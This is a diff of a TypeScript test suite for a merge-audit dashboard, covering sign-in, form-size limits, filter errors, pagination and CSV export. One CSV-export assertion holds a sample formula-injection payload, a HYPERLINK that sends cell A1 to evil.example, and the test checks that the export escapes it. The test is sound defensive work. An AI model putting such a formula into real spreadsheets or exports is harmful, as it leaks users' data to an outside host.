@@ -5,26 +5,15 @@
  */
 import { BYPASS_MERGE, CAPTURE_MERGE, HOSTILE, SEED_NOW, sha } from "./support/seed-audit.js";
 import { startDashboardServer, TEST_TOKEN, type DashboardServer } from "./support/dashboard-server.js";
-import { cookieValue, hiddenField, request } from "./support/http.js";
+import { cookieValue, hiddenField, request, signIn } from "./support/http.js";
+import { tooLargeMessage } from "../../src/http/request-body.js";
+import { listMerges } from "../support/list-merges.js";
 import { parseTrustedProxies, type TrustedProxies } from "../../src/http/client-address.js";
 
 function trusted(text: string): TrustedProxies {
   const parsed = parseTrustedProxies(text);
   if (!parsed.ok) throw new Error(parsed.problems.join("; "));
   return parsed.proxies;
-}
-
-/** GET the sign-in form, then POST it: the browser's two steps. */
-async function signIn(server: DashboardServer, token = TEST_TOKEN, extra: { headers?: Record<string, string>; next?: string } = {}) {
-  const form = await request(server, `/countersign/login${extra.next ? `?next=${encodeURIComponent(extra.next)}` : ""}`, { headers: extra.headers ?? {} });
-  const nonce = cookieValue(form.cookies, "countersign_login")!;
-  const posted = await request(server, "/countersign/login", {
-    cookie: `countersign_login=${nonce}`,
-    form: { csrf: hiddenField(form.text, "csrf")!, next: hiddenField(form.text, "next")!, token },
-    headers: extra.headers ?? {},
-  });
-  const session = cookieValue(posted.cookies, "countersign_session");
-  return { form, posted, cookie: session ? `countersign_session=${session}` : "" };
 }
 
 describe("access", () => {
@@ -161,7 +150,10 @@ describe("access", () => {
       expect(res.status).toBe(405);
     }
     expect((await request(server, "/countersign/login", { body: '{"token":"x"}', headers: { "content-type": "application/json" } })).status).toBe(415);
-    expect((await request(server, "/countersign/login", { body: "token=" + "a".repeat(9000), headers: { "content-type": "application/x-www-form-urlencoded" } })).status).toBe(413);
+    const form = { "content-type": "application/x-www-form-urlencoded" };
+    const big = await request(server, "/countersign/login", { body: "token=" + "a".repeat(9000), headers: form });
+    expect(big).toMatchObject({ status: 413, text: `Form too large: ${tooLargeMessage(8 * 1024)}.` });
+    expect(big.headers.connection).toBe("close");
   });
 });
 
@@ -362,7 +354,7 @@ describe("pages", () => {
     const res = await request(server, "/countersign/merges?repo=nope&since=yesterday&cursor=m1.bogus", { cookie });
     expect(res.status).toBe(400);
     expect(res.text).toContain("The filter was not applied.");
-    expect(res.text).toContain("Repository: Use owner/name");
+    expect(res.text).toContain("Repository: expected owner/name, for example acme/payments-api");
     expect(res.text).toContain('id="f-since" name="since" value="yesterday" type="date" aria-describedby="f-since-hint f-since-error" aria-invalid="true"');
     const cursor = await request(server, "/countersign/merges?cursor=m1.bogus", { cookie });
     expect(cursor.status).toBe(400);
@@ -380,7 +372,7 @@ describe("pages", () => {
       path = /<a href="([^"]+)" rel="next">/.exec(res.text)?.[1]?.replace(/&amp;/g, "&") ?? null;
       pages += 1;
     }
-    const total = (await server.store.listMerges({ limit: 1000 })).length;
+    const total = (await listMerges(server.store, { limit: 1000 })).length;
     expect(seen).toHaveLength(total);
     expect(new Set(seen).size).toBe(total);
     expect(pages).toBe(Math.ceil(total / 50));
@@ -395,7 +387,7 @@ describe("pages", () => {
     expect(lines[0]).toBe("merged_at,repo,pr,ai,tools,team,reviewers,check,bypassed,exceptions,reverted_by,merge_sha,title");
     expect(lines.at(-1)).toBe("");
     expect(res.text.replace(/\r\n/g, "")).not.toContain("\n");
-    const expected = (await server.store.listMerges({ repo: "acme/web", limit: 1000 })).length;
+    const expected = (await listMerges(server.store, { repo: "acme/web", limit: 1000 })).length;
     expect(lines.length - 2).toBe(expected);
     expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
     expect(res.text).not.toMatch(/(^|,)=HYPERLINK/m);
